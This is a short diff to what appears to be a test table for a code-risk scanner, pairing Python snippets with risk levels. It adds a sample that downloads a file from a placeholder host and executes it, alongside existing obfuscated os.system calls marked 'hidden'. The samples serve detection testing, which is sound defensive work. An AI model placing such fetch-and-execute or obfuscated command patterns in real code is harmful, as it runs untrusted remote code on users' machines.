@@ -34,6 +34,11 @@ URL = "https://example.invalid/a"
         ("open(os.path.expanduser('~/.x/y'), 'w').write('z')", "medium"),
         ("import ctypes\nctypes.CDLL('x.so')", "medium"),
         ("import socket\nsocket.gethostbyname('example.invalid')", "medium"),
+        (f"requests.get('{URL}' + os.environ['MIRROR'])", "medium"),
+        (
+            f"open('configure', 'wb').write(requests.get('{URL}').content)\nsubprocess.check_call(['./configure'])",
+            "medium",
+        ),
         # hidden
         ("getattr(os, 'sys' + 'tem')('prog')", "high"),
         ("__import__('o' + 's').system('git describe')", "high"),
